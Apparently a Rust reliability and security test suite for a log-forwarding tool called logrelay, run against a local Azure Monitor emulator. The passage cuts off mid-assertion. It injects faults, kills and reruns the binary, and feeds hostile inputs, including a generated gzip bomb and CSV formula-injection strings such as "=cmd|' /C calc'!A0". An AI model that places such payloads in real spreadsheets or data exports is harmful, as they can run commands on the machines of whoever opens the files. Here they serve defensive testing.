//! Reliability and security: the real binaries against the local Azure emulator while it
//! throttles, drops, stalls, expires tokens and refuses everything; a crash and a rerun;
//! hostile input; refused callers and refused configurations; no secret in any output.
//!
//! Each scenario writes its counts to `target/reliability/*.json`;
//! `scripts/reliability.sh` runs this suite and renders RELIABILITY.md from them. "Lost" is
//! always computed from what went in (the EventIds decoded from the input with logrelay's own
//! decoder, or the fixture's known record count), never from the binary's own report.

mod common;

use std::collections::{BTreeMap, HashMap, HashSet};
use std::fs::File;
use std::io::{BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant, SystemTime};

use azmon_emulator::{Emulator, EmulatorConfig, Faults, DROP_CONNECTION};
use flate2::write::GzEncoder;
use flate2::Compression;
use logrelay::keeper::{DecodeOptions, Decoded, RowReader, SchemaMode};
use serde_json::{json, Value};

/// The Logs Ingestion API's request limit on the wire (azure-monitor-protocol.md §1.5).
const SERVICE_MAX_BODY_BYTES: u64 = 1_048_576;

/// Peak resident memory allowed for one `logrelay send` on hostile input. The inputs below are
/// 256 MB lines and 2 GiB gzip bombs, so a reader that buffers would blow far past this.
const HOSTILE_PEAK_RSS_KB: u64 = 160 * 1024;

/// Events in the fault-storm and crash scenarios.
const STORM_EVENTS: u64 = 100_000;

// ---------------------------------------------------------------------------------------------
// Running the binaries
// ---------------------------------------------------------------------------------------------

/// GNU time reports the child's peak RSS from `wait4`, exact whatever the run's length.
fn gnu_time() -> PathBuf {
    let path = PathBuf::from("/usr/bin/time");
    assert!(
        path.is_file(),
        "/usr/bin/time (GNU time) is missing: install it (`apt-get install time`); the hostile-input scenarios measure peak memory with it"
    );
    path
}

/// Writes a streamed stdin.
type StdinWriter = Box<dyn FnOnce(&mut dyn Write) -> std::io::Result<()> + Send>;

/// What goes to the child's stdin.
enum Stdin {
    Null,
    Bytes(Vec<u8>),
    /// Written on a thread as the child reads, so huge inputs never sit in memory.
    Stream(StdinWriter),
}

/// One finished run.
struct Run {
    code: i32,
    stdout: String,
    stderr: String,
    /// Peak resident set of the child, in KiB (GNU time's `%M`).
    peak_rss_kb: u64,
    elapsed: Duration,
}

impl Run {
    fn all_output(&self) -> String {
        format!("{}\n{}", self.stdout, self.stderr)
    }

    /// The `--json` report on stdout.
    fn report(&self) -> Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|error| {
            panic!(
                "--json prints the report ({error}):\n{}",
                tail(&self.all_output())
            )
        })
    }

    fn assert_no_panic(&self, what: &str) {
        assert!(
            !self.all_output().contains("panicked"),
            "{what} panicked:\n{}",
            tail(&self.all_output())
        );
    }
}

/// The last few KB of a long output, for assertion messages.
fn tail(text: &str) -> &str {
    let start = text.len().saturating_sub(6_000);
    let start = (start..text.len())
        .find(|i| text.is_char_boundary(*i))
        .unwrap_or(0);
    &text[start..]
}

/// Runs `binary args` under GNU time with only `env`, in `dir`.
async fn run(
    binary: PathBuf,
    args: &[&str],
    env: Vec<(String, String)>,
    dir: &Path,
    stdin: Stdin,
) -> Run {
    let args: Vec<String> = args.iter().map(|arg| arg.to_string()).collect();
    let dir = dir.to_path_buf();
    // The child talks to the emulator served by this runtime, so wait on a blocking thread.
    tokio::task::spawn_blocking(move || {
        let rss_file = dir.join(format!(".peak-rss-{}", uuid::Uuid::new_v4()));
        let started = Instant::now();
        let mut child = Command::new(gnu_time())
            .arg("-f")
            .arg("%M")
            .arg("-o")
            .arg(&rss_file)
            .arg(&binary)
            .args(&args)
            .env_clear()
            .envs(env)
            .current_dir(&dir)
            .stdin(match stdin {
                Stdin::Null => Stdio::null(),
                _ => Stdio::piped(),
            })
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("the binary starts");
        let writer = match stdin {
            Stdin::Null => None,
            Stdin::Bytes(bytes) => {
                let mut pipe = child.stdin.take().expect("stdin pipe");
                Some(std::thread::spawn(move || {
                    // The child may stop reading early (that is the point of some inputs).
                    let _ = pipe.write_all(&bytes);
                }))
            }
            Stdin::Stream(write) => {
                let mut pipe = child.stdin.take().expect("stdin pipe");
                Some(std::thread::spawn(move || {
                    let _ = write(&mut pipe);
                }))
            }
        };
        let output = child.wait_with_output().expect("the binary finishes");
        if let Some(writer) = writer {
            writer.join().expect("stdin writer");
        }
        let rss = std::fs::read_to_string(&rss_file).unwrap_or_default();
        let _ = std::fs::remove_file(&rss_file);
        let peak_rss_kb = rss
            .lines()
            .rev()
            .find_map(|line| line.trim().parse::<u64>().ok())
            .unwrap_or_else(|| panic!("GNU time wrote no peak RSS: {rss:?}"));
        Run {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
            peak_rss_kb,
            elapsed: started.elapsed(),
        }
    })
    .await
    .expect("runner thread")
}

async fn logrelay(args: &[&str], env: Vec<(String, String)>, dir: &Path, stdin: Stdin) -> Run {
    run(common::debug_binary("logrelay"), args, env, dir, stdin).await
}

/// Writes generated Keeper events with `logrelay generate`.
async fn generate(dir: &Path, file: &str, events: u64, shape: &str, seed: u64) {
    let (events, seed) = (events.to_string(), seed.to_string());
    let run = logrelay(
        &[
            "generate", "--events", &events, "--shape", shape, "--seed", &seed, "--out", file,
        ],
        Vec::new(),
        dir,
        Stdin::Null,
    )
    .await;
    assert_eq!(run.code, 0, "generate failed: {}", run.stderr);
}

/// The emulator's client-secret environment plus `extra`.
fn env_with(emulator: &Emulator, extra: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut env = emulator.env();
    for (name, value) in extra {
        env.retain(|(existing, _)| existing != name);
        env.push(((*name).to_string(), (*value).to_string()));
    }
    env
}

// ---------------------------------------------------------------------------------------------
// What went in, what came out
// ---------------------------------------------------------------------------------------------

/// The EventIds of every event in `path`, decoded with logrelay's own decoder: the set the
/// table must end up holding. Panics if the input has undecodable records (not expected here).
fn expected_event_ids(path: &Path) -> Vec<String> {
    let options = DecodeOptions {
        schema: SchemaMode::Keeper,
        max_decompressed_bytes: u64::MAX,
        now: SystemTime::now(),
    };
    let file = BufReader::new(File::open(path).expect("input file"));
    RowReader::new(file, "expected", &options)
        .map(|item| match item.expect("the input reads") {
            Decoded::Row(row) => {
                let row: Value = serde_json::from_slice(&row.json).expect("rows are JSON");
                row["EventId"]
                    .as_str()
                    .expect("every row has an EventId")
                    .to_string()
            }
            Decoded::Rejected(entry) => panic!("the generated input has a bad record: {entry:?}"),
        })
        .collect()
}

/// EventId → how many times it is in the table.
fn table_counts(emulator: &Emulator) -> HashMap<String, u64> {
    let mut counts = HashMap::new();
    for row in emulator.rows() {
        let id = row["EventId"]
            .as_str()
            .expect("every stored row has an EventId")
            .to_string();
        *counts.entry(id).or_default() += 1;
    }
    counts
}

/// Every dead-letter line under `dir` (absent directory = none).
fn dead_letters(dir: &Path) -> Vec<Value> {
    if !dir.is_dir() {
        return Vec::new();
    }
    common::dead_letter_lines(dir)
}

/// The raw text of every dead-letter file under `dir`, for secret scans.
fn dead_letter_text(dir: &Path) -> String {
    dead_letters(dir)
        .iter()
        .map(Value::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}

fn dead_letter_event_ids(entries: &[Value]) -> Vec<String> {
    entries
        .iter()
        .filter_map(|entry| entry["event"]["EventId"].as_str().map(str::to_string))
        .collect()
}

/// Events of `expected` neither in the table nor in the dead letter.
fn lost(expected: &HashSet<String>, table: &HashMap<String, u64>, dead: &[String]) -> u64 {
    let dead: HashSet<&str> = dead.iter().map(String::as_str).collect();
    expected
        .iter()
        .filter(|id| !table.contains_key(*id) && !dead.contains(id.as_str()))
        .count() as u64
}

/// Rows stored more than once (each extra copy counts one).
fn duplicated(table: &HashMap<String, u64>) -> u64 {
    table.values().map(|count| count.saturating_sub(1)).sum()
}

fn u64_of(value: &Value) -> u64 {
    value
        .as_u64()
        .unwrap_or_else(|| panic!("not a count: {value}"))
}

// ---------------------------------------------------------------------------------------------
// Results for RELIABILITY.md
// ---------------------------------------------------------------------------------------------

/// One row of RELIABILITY.md.
struct Outcome<'a> {
    /// File name and sort key, e.g. `10-cli-fault-storm`.
    id: &'a str,
    scenario: &'a str,
    /// Which binary ran.
    path: &'a str,
    injected: &'a str,
    events_in: u64,
    delivered: u64,
    dead_lettered: u64,
    duplicated: u64,
    lost: u64,
    /// Measurements worth showing (peak RSS, requests, injected faults seen).
    notes: String,
}

/// Writes `target/reliability/<id>.json`.
fn record(outcome: &Outcome<'_>) {
    let dir = common::repo().join("target/reliability");
    std::fs::create_dir_all(&dir).expect("target/reliability");
    let value = json!({
        "id": outcome.id,
        "scenario": outcome.scenario,
        "path": outcome.path,
        "injected": outcome.injected,
        "events_in": outcome.events_in,
        "delivered": outcome.delivered,
        "dead_lettered": outcome.dead_lettered,
        "duplicated": outcome.duplicated,
        "lost": outcome.lost,
        "notes": outcome.notes,
        "recorded_at": chrono::Utc::now().to_rfc3339(),
    });
    std::fs::write(
        dir.join(format!("{}.json", outcome.id)),
        serde_json::to_vec_pretty(&value).expect("JSON"),
    )
    .expect("result written");
}

fn mib(kb: u64) -> String {
    format!("{:.0} MiB", kb as f64 / 1024.0)
}

// ---------------------------------------------------------------------------------------------
// Faults
// ---------------------------------------------------------------------------------------------

/// The fault storm of the 100,000-event scenarios: 30% 429/503, 5% drops, 15% 3 s stalls,
/// 8 s tokens and a scripted start, drawn from `seed`.
fn storm_faults(seed: u64) -> Faults {
    Faults {
        status_rate: 0.3,
        statuses: vec![429, 503],
        retry_after_secs: 1,
        drop_rate: 0.05,
        stall_rate: 0.15,
        stall_ms: 3_000,
        token_lifetime_secs: Some(8),
        // The random draws interleave with request timing; the script makes sure every kind
        // of fault happens at least once whatever the draws.
        script: vec![DROP_CONNECTION, 429, DROP_CONNECTION, 503],
        seed: Some(seed),
        ..Faults::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn send_delivers_100000_events_through_throttling_drops_stalls_and_short_lived_tokens() {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), "storm.ndjson", STORM_EVENTS, "push", 11).await;
    let ids = expected_event_ids(&dir.path().join("storm.ndjson"));
    let expected: HashSet<String> = ids.iter().cloned().collect();
    assert_eq!(
        expected.len() as u64,
        STORM_EVENTS,
        "the generator made distinct events"
    );
    emulator.set_faults(storm_faults(20_251_124));

    let env = env_with(
        &emulator,
        &[
            ("LOGRELAY_REQUEST_TIMEOUT_SECS", "2"),
            ("LOGRELAY_MAX_ATTEMPTS", "30"),
            ("RUST_LOG", "info"),
        ],
    );
    let run = logrelay(
        &["send", "--json", "--dead-letter", "dl", "storm.ndjson"],
        env,
        dir.path(),
        Stdin::Null,
    )
    .await;

    run.assert_no_panic("send under faults");
    let report = run.report();
    let stats = emulator.stats();
    let table = table_counts(&emulator);
    let dead = dead_letter_event_ids(&dead_letters(&dir.path().join("dl")));
    let lost = lost(&expected, &table, &dead);
    let duplicated = duplicated(&table);
    record(&Outcome {
        id: "10-cli-fault-storm",
        scenario: "100,000 events under a fault storm",
        path: "logrelay send",
        injected: "30% 429/503 (Retry-After 1 s), 5% dropped connections, 15% stalls of 3 s past a 2 s client timeout, tokens living 8 s (plus a scripted drop, 429, drop, 503 first)",
        events_in: STORM_EVENTS,
        delivered: table.len() as u64,
        dead_lettered: dead.len() as u64,
        duplicated,
        lost,
        notes: format!(
            "{} requests, {} client retries ({} answered 429, {} answered 503, {} dropped, {} stalled); duplicates are bodies the emulator stored but answered after the client's 2 s timeout (slow answers under load), so the retry sent them again; {} tokens issued, {} expired-token uses, largest body {} B, {:.0} s, peak RSS {}",
            stats.ingestion_requests,
            report["retries"],
            stats.status_counts.get(&429).copied().unwrap_or(0),
            stats.status_counts.get(&503).copied().unwrap_or(0),
            stats.dropped_connections,
            stats.stalled_requests,
            stats.tokens_issued,
            stats.expired_token_uses,
            stats.max_wire_bytes,
            run.elapsed.as_secs_f64(),
            mib(run.peak_rss_kb)
        ),
    });

    assert_eq!(lost, 0, "every event is in the table or the dead letter");
    assert_eq!(run.code, 0, "{}", tail(&run.all_output()));
    assert_eq!(u64_of(&report["events_in"]), STORM_EVENTS);
    assert_eq!(
        u64_of(&report["delivered"]) + u64_of(&report["dead_lettered"]),
        STORM_EVENTS,
        "{report}"
    );
    assert_eq!(
        table.len() as u64,
        STORM_EVENTS,
        "every EventId is in the table"
    );
    assert!(
        table.keys().all(|id| expected.contains(id)),
        "nothing extra"
    );
    assert_eq!(stats.expired_token_uses, 0, "a token is never used expired");
    assert!(stats.max_wire_bytes <= SERVICE_MAX_BODY_BYTES, "{stats:?}");
    // The faults really happened (the test would prove nothing otherwise).
    assert!(
        stats.status_counts.get(&429).copied().unwrap_or(0) > 0,
        "{stats:?}"
    );
    assert!(
        stats.status_counts.get(&503).copied().unwrap_or(0) > 0,
        "{stats:?}"
    );
    assert!(stats.dropped_connections > 0, "{stats:?}");
    assert!(stats.stalled_requests > 0, "{stats:?}");
    assert!(
        stats.tokens_issued > 1,
        "short-lived tokens were replaced: {stats:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_killed_send_rerun_on_the_same_file_delivers_everything_and_duplicates_only_what_the_first_run_sent(
) {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), "big.ndjson", STORM_EVENTS, "flat", 12).await;
    let expected: HashSet<String> = expected_event_ids(&dir.path().join("big.ndjson"))
        .into_iter()
        .collect();
    assert_eq!(expected.len() as u64, STORM_EVENTS);
    // Slow answers so the kill lands mid-file.
    emulator.set_faults(Faults {
        latency_ms: 400,
        ..Faults::default()
    });

    let mut child: Child = Command::new(common::debug_binary("logrelay"))
        .args(["send", "--dead-letter", "dl", "big.ndjson"])
        .env_clear()
        .envs(emulator.env())
        .current_dir(dir.path())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("logrelay starts");
    let landed = emulator
        .wait_for_rows(10_000, Duration::from_secs(120))
        .await;
    child.kill().expect("SIGKILL");
    let status = child.wait().expect("the killed child is reaped");
    assert!(landed >= 10_000, "rows landed before the kill: {landed}");
    assert!(
        status.code().is_none(),
        "killed by a signal, not finished: {status:?}"
    );
    // Requests the emulator was still holding (latency) may complete after the kill.
    tokio::time::sleep(Duration::from_millis(1_500)).await;
    let first_run: HashMap<String, u64> = table_counts(&emulator);
    let first_rows = first_run.values().sum::<u64>();
    assert!(
        (first_rows) < STORM_EVENTS,
        "the kill came before the end: {first_rows}"
    );

    emulator.set_faults(Faults::none());
    let rerun = logrelay(
        &["send", "--json", "--dead-letter", "dl", "big.ndjson"],
        emulator.env(),
        dir.path(),
        Stdin::Null,
    )
    .await;

    rerun.assert_no_panic("the rerun");
    let table = table_counts(&emulator);
    let dead = dead_letter_event_ids(&dead_letters(&dir.path().join("dl")));
    let lost = lost(&expected, &table, &dead);
    let duplicated = duplicated(&table);
    let duplicated_ids: Vec<&String> = table
        .iter()
        .filter(|(_, count)| **count > 1)
        .map(|(id, _)| id)
        .collect();
    record(&Outcome {
        id: "20-cli-crash-rerun",
        scenario: "SIGKILL mid-file, then the same command again",
        path: "logrelay send",
        injected: "SIGKILL after ≥ 10,000 rows landed (400 ms answer latency to land it mid-file)",
        events_in: STORM_EVENTS,
        delivered: table.len() as u64,
        dead_lettered: dead.len() as u64,
        duplicated,
        lost,
        notes: format!(
            "first run stored {first_rows} rows before the kill; the rerun resends the whole file, so exactly those are duplicated (remove with `summarize arg_max(TimeGenerated, *) by EventId`)"
        ),
    });

    assert_eq!(lost, 0);
    assert_eq!(rerun.code, 0, "{}", tail(&rerun.all_output()));
    assert_eq!(table.len() as u64, STORM_EVENTS, "every EventId arrives");
    assert!(dead.is_empty(), "nothing dead-lettered");
    assert!(
        duplicated_ids.iter().all(|id| first_run.contains_key(*id)),
        "duplicates are only events the killed run had delivered"
    );
    assert_eq!(
        duplicated, first_rows,
        "the rerun has no checkpoint: each event the first run delivered is there twice, no more"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_outage_longer_than_the_deadline_dead_letters_every_event_with_the_reason_and_exits_1() {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), "events.ndjson", 5_000, "push", 13).await;
    let expected: HashSet<String> = expected_event_ids(&dir.path().join("events.ndjson"))
        .into_iter()
        .collect();
    emulator.set_faults(Faults::random_statuses(1.0, &[503], 1));

    let run = logrelay(
        &["send", "--json", "--dead-letter", "dl", "events.ndjson"],
        env_with(&emulator, &[("LOGRELAY_DEADLINE_SECS", "3")]),
        dir.path(),
        Stdin::Null,
    )
    .await;

    run.assert_no_panic("send during an outage");
    let entries = dead_letters(&dir.path().join("dl"));
    let dead = dead_letter_event_ids(&entries);
    let table = table_counts(&emulator);
    let lost = lost(&expected, &table, &dead);
    let stats = emulator.stats();
    record(&Outcome {
        id: "30-cli-outage",
        scenario: "Outage longer than the deadline (TransientPolicy::DeadLetter)",
        path: "logrelay send",
        injected:
            "every ingestion request answered 503 (Retry-After 1 s); LOGRELAY_DEADLINE_SECS=3",
        events_in: expected.len() as u64,
        delivered: table.len() as u64,
        dead_lettered: dead.len() as u64,
        duplicated: duplicated(&table),
        lost,
        notes: format!(
            "exit {}, {} requests all refused, every dead-letter line carries the 503 reason",
            run.code, stats.ingestion_requests
        ),
    });

    assert_eq!(lost, 0);
    assert_eq!(run.code, 1, "{}", tail(&run.all_output()));
    let report = run.report();
    assert_eq!(u64_of(&report["delivered"]), 0);
    assert_eq!(u64_of(&report["dead_lettered"]), 5_000);
    assert!(table.is_empty());
    assert_eq!(entries.len(), 5_000);
    assert_eq!(dead.iter().cloned().collect::<HashSet<_>>(), expected);
    for entry in &entries {
        let reason = entry["reason"].as_str().expect("a reason");
        assert!(
            reason.contains("503") && reason.contains("retries exhausted"),
            "{reason}"
        );
        assert_eq!(entry["source"], "events.ndjson");
    }
    assert!(stats.ingestion_requests > 0 && stats.accepted_requests == 0);
}

// ---------------------------------------------------------------------------------------------
// Hostile input
// ---------------------------------------------------------------------------------------------

/// One hostile input and what must happen to it.
struct Hostile {
    id: &'static str,
    what: &'static str,
    /// A file in the run directory (`-` for stdin).
    input: &'static str,
    stdin: Stdin,
    extra_env: Vec<(&'static str, &'static str)>,
    /// Records in the input (known from how it was made).
    records: u64,
    delivered: u64,
    dead_lettered: u64,
    /// Every dead-letter reason contains all of these.
    reason: &'static [&'static str],
}

fn hostile_fixture(name: &str) -> PathBuf {
    common::repo().join("tests/fixtures/hostile").join(name)
}

/// A push-shape Keeper event as one JSON line, numbered `i`, with `data`.
fn keeper_line(i: u64, data: Value) -> String {
    let event = json!({
        "audit_event": "record_update",
        "category": "usage",
        "client_version": "Web Vault 17.0.0",
        "data": data,
        "enterprise_id": 3141592,
        "remote_address": "192.0.2.7",
        "timestamp": chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
        "username": format!("user{i}@acme-corp.example"),
    });
    format!("{event}\n")
}

/// `len` pseudo-random letters: gzip cannot shrink them, so sizes stay honest.
fn noise(len: usize, seed: u64) -> String {
    let mut rng = fastrand::Rng::with_seed(seed);
    (0..len).map(|_| rng.alphanumeric()).collect()
}

/// Writes a gzip bomb: a JSON array of two events, then `gib` GiB of whitespace between
/// elements, then a last event. Multi-member gzip of one compressed MiB repeated, so the file
/// is ~2 MB and is written in milliseconds, yet inflates to > `gib` GiB of valid JSON.
fn write_gzip_bomb(path: &Path, gib: usize) {
    let member = |bytes: &[u8]| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(bytes).expect("in memory");
        encoder.finish().expect("in memory")
    };
    let mut file = std::io::BufWriter::new(File::create(path).expect("bomb file"));
    let head = format!(
        "[{},{},",
        keeper_line(1, json!({})).trim_end(),
        keeper_line(2, json!({})).trim_end()
    );
    file.write_all(&member(head.as_bytes()))
        .expect("generated input written");
    let spaces = member(&vec![b' '; 1 << 20]);
    for _ in 0..(gib << 10) {
        file.write_all(&spaces).expect("generated input written");
    }
    let last = format!("{}]", keeper_line(3, json!({})).trim_end());
    file.write_all(&member(last.as_bytes()))
        .expect("generated input written");
    file.flush().expect("generated input written");
}

/// A 256 MiB string field on line 2 of 3, streamed to stdin.
fn huge_line_stream(writer: &mut dyn Write) -> std::io::Result<()> {
    writer.write_all(keeper_line(1, json!({})).as_bytes())?;
    writer.write_all(b"{\"audit_event\":\"login\",\"data\":{\"note\":\"")?;
    let chunk = vec![b'x'; 1 << 20];
    for _ in 0..256 {
        writer.write_all(&chunk)?;
    }
    writer.write_all(b"\"}}\n")?;
    writer.write_all(keeper_line(3, json!({})).as_bytes())
}

/// Copies every fixture and writes the generated inputs into `dir`; returns the cases.
fn hostile_cases(dir: &Path) -> Vec<Hostile> {
    for name in [
        "deep-nesting.ndjson",
        "deep-nesting.json",
        "invalid-utf8.ndjson",
        "invalid-utf8.csv",
        "non-object.ndjson",
        "csv-injection.ndjson",
        "csv-injection.csv",
    ] {
        std::fs::copy(hostile_fixture(name), dir.join(name)).expect("fixture copied");
    }
    // A row over the 1 MB request limit: 20 fields of 60,000 characters (each under 64 KB).
    let fields: serde_json::Map<String, Value> = (0..20)
        .map(|i| (format!("field{i}"), Value::String(noise(60_000, i))))
        .collect();
    std::fs::write(
        dir.join("oversized-row.ndjson"),
        keeper_line(1, Value::Object(fields)) + &keeper_line(2, json!({})),
    )
    .expect("generated input written");
    // One 200,000-character field: truncated to 64 KB and delivered.
    std::fs::write(
        dir.join("huge-field.ndjson"),
        keeper_line(1, json!({"note": noise(200_000, 99)})),
    )
    .expect("generated input written");
    write_gzip_bomb(&dir.join("bomb.json.gz"), 2);
    // A gzip file cut in the middle of its stream.
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    for i in 0..2_000 {
        encoder
            .write_all(keeper_line(i, json!({"note": noise(100, i)})).as_bytes())
            .expect("generated input written");
    }
    let whole = encoder.finish().expect("generated input written");
    std::fs::write(dir.join("truncated.ndjson.gz"), &whole[..whole.len() / 2])
        .expect("generated input written");

    vec![
        Hostile {
            id: "40-hostile-deep-nesting-ndjson",
            what: "20,000 levels of nested arrays inside an event (NDJSON)",
            input: "deep-nesting.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["deep-nesting.ndjson: line 2", "recursion limit"],
        },
        Hostile {
            id: "41-hostile-deep-nesting-array",
            what: "20,000 levels of nested arrays inside an element of a JSON array",
            input: "deep-nesting.json",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["deep-nesting.json: record 2", "recursion limit"],
        },
        Hostile {
            id: "42-hostile-invalid-utf8-ndjson",
            what: "invalid UTF-8 bytes inside a string value",
            input: "invalid-utf8.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["invalid-utf8.ndjson: line 2", "UTF-8"],
        },
        Hostile {
            id: "43-hostile-invalid-utf8-csv",
            what: "invalid UTF-8 bytes in a CSV cell",
            input: "invalid-utf8.csv",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["invalid-utf8.csv: line 3", "UTF-8"],
        },
        Hostile {
            id: "44-hostile-non-object",
            what: "JSON lines that are numbers, strings, null, booleans, arrays",
            input: "non-object.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 6,
            delivered: 1,
            dead_lettered: 5,
            reason: &["non-object.ndjson: line", "is not an event object"],
        },
        Hostile {
            id: "45-hostile-oversized-row",
            what:
                "one event of 1.2 MB (twenty 60,000-character fields), over the 1 MB request limit",
            input: "oversized-row.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 2,
            delivered: 1,
            dead_lettered: 1,
            reason: &["a request body holds at most", "shorten its fields"],
        },
        Hostile {
            id: "46-hostile-huge-field",
            what: "one 200,000-character field (Azure keeps 64 KB)",
            input: "huge-field.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 1,
            delivered: 1,
            dead_lettered: 0,
            reason: &[],
        },
        Hostile {
            id: "47-hostile-huge-line-stdin",
            what: "a 256 MiB line between two good ones, streamed on stdin",
            input: "-",
            stdin: Stdin::Stream(Box::new(huge_line_stream)),
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["stdin: line 2", "exceeds"],
        },
        Hostile {
            id: "48-hostile-gzip-bomb",
            what:
                "gzip bomb: 2 MB file inflating to 2 GiB (LOGRELAY_MAX_DECOMPRESSED_BYTES=16 MiB)",
            input: "bomb.json.gz",
            stdin: Stdin::Null,
            extra_env: vec![("LOGRELAY_MAX_DECOMPRESSED_BYTES", "16777216")],
            // Two events, then the guard stops decoding: one entry says why.
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["16777216 bytes", "LOGRELAY_MAX_DECOMPRESSED_BYTES"],
        },
        Hostile {
            id: "49-hostile-truncated-gzip",
            what: "a gzip file cut in half",
            input: "truncated.ndjson.gz",
            stdin: Stdin::Null,
            extra_env: vec![],
            // What precedes the cut is delivered; the count depends on the compressor.
            records: 0,
            delivered: 0,
            dead_lettered: 1,
            reason: &["corrupt or truncated"],
        },
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_input_gets_a_clear_reason_bounded_memory_and_no_panic() {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut failures = Vec::new();
    for case in hostile_cases(dir.path()) {
        emulator.reset();
        let dl = format!("dl-{}", case.id);
        let mut extra = vec![("RUST_LOG", "info")];
        extra.extend(case.extra_env.iter().copied());
        let run = logrelay(
            &["send", "--json", "--dead-letter", &dl, case.input],
            env_with(&emulator, &extra),
            dir.path(),
            case.stdin,
        )
        .await;
        let entries = dead_letters(&dir.path().join(&dl));
        let rows = emulator.rows();
        let report: Value = serde_json::from_str(&run.stdout).unwrap_or(Value::Null);
        let events_in = report["events_in"].as_u64().unwrap_or(0);
        let delivered = report["delivered"].as_u64().unwrap_or(0);
        let dead_lettered = report["dead_lettered"].as_u64().unwrap_or(0);
        let records = if case.records == 0 {
            // Truncated gzip: the records are what was readable plus the one entry for the rest.
            rows.len() as u64 + entries.len() as u64
        } else {
            case.records
        };
        let lost = records.saturating_sub(rows.len() as u64 + entries.len() as u64);
        record(&Outcome {
            id: case.id,
            scenario: case.what,
            path: "logrelay send",
            injected: case.input,
            events_in: records,
            delivered: rows.len() as u64,
            dead_lettered: entries.len() as u64,
            duplicated: 0,
            lost,
            notes: format!(
                "peak RSS {}, {:.1} s; reason: {}",
                mib(run.peak_rss_kb),
                run.elapsed.as_secs_f64(),
                entries
                    .first()
                    .and_then(|entry| entry["reason"].as_str())
                    .map(|reason| reason.replace(&dir.path().display().to_string(), "."))
                    .unwrap_or_else(|| "none (delivered)".into())
            ),
        });

        let mut check = |ok: bool, what: String| {
            if !ok {
                failures.push(format!("{}: {what}\n{}", case.id, tail(&run.all_output())));
            }
        };
        check(
            !run.all_output().contains("panicked"),
            "the binary panicked".into(),
        );
        check(lost == 0, format!("{lost} events lost"));
        check(
            run.peak_rss_kb <= HOSTILE_PEAK_RSS_KB,
            format!(
                "peak RSS {} KiB over {HOSTILE_PEAK_RSS_KB}",
                run.peak_rss_kb
            ),
        );
        check(
            run.code == if case.dead_lettered == 0 { 0 } else { 1 },
            format!("exit code {}", run.code),
        );
        check(
            events_in == delivered + dead_lettered && events_in == records,
            format!("report does not balance with {records} records: {report}"),
        );
        check(
            rows.len() as u64 == delivered && entries.len() as u64 == dead_lettered,
            format!(
                "{} rows and {} dead letters vs report {report}",
                rows.len(),
                entries.len()
            ),
        );
        if case.records > 0 {
            check(
                delivered == case.delivered && dead_lettered == case.dead_lettered,
                format!(
                    "expected {} delivered, {} dead-lettered: {report}",
                    case.delivered, case.dead_lettered
                ),
            );
        } else {
            check(
                delivered > 0 && dead_lettered == case.dead_lettered,
                format!("readable records first, then one entry: {report}"),
            );
        }
        for entry in &entries {
            let reason = entry["reason"].as_str().unwrap_or_default();
            check(
                case.reason.iter().all(|part| reason.contains(part)),
                format!("reason {reason:?} lacks {:?}", case.reason),
            );
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_looking_values_are_forwarded_as_data_unchanged() {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    for name in ["csv-injection.ndjson", "csv-injection.csv"] {
        std::fs::copy(hostile_fixture(name), dir.path().join(name)).unwrap();
    }

    let run = logrelay(
        &[
            "send",
            "--json",
            "csv-injection.ndjson",
            "csv-injection.csv",
        ],
        emulator.env(),
        dir.path(),
        Stdin::Null,
    )
    .await;

    assert_eq!(run.code, 0, "{}", run.all_output());
    let rows = emulator.rows();
    assert_eq!(rows.len(), 5);
    let has = |column: &str, value: &str| rows.iter().any(|row| row[column] == value);
    // From the NDJSON file: the strings exactly as Keeper sent them.
    assert!(has("username", "=cmd|' /C calc'!A0"));
    assert!(has("client_version", "+SUM(1+1)*cmd|' /C calc'!A0"));
    assert!(has("remote_address", "-2+3+cmd|' /C calc'!A0"));
    assert!(rows
        .iter()
        .any(|row| row["data"]["note"] == "@SUM(1+1)*cmd|' /C calc'!A0"
            && row["data"]["record_title"]
